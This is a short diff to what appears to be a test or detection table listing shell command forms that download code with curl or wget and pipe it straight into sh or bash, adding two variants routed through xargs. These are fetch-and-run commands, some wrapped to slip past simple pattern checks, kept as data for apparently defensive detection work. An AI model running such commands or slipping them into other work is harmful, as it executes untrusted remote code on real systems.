@@ -516,6 +516,8 @@ DOWNLOAD = [
     Form("route", "d11", f"wget -qO- {URL}/d11 | sh", ("sh",)),
     Form("route", "d12", f"curl -s {URL}/d12 | bash /dev/stdin", ("bash", "/dev/stdin")),
     Form("program", "d13", f"curl -s {URL}/d13 | nice sh", ("nice", "sh")),
+    Form("program", "d14", f"curl -s {URL}/d14 | xargs -0 sh -c", ("xargs", "sh", "-c")),
+    Form("program", "d15", f"curl -s {URL}/d15 | xargs -I{{}} sh -c '{{}}'", ("xargs", "sh")),
     Form("program", "d8", f"curl -s {URL}/d8 | env sh", ("env", "sh")),
     Form(
         "program",
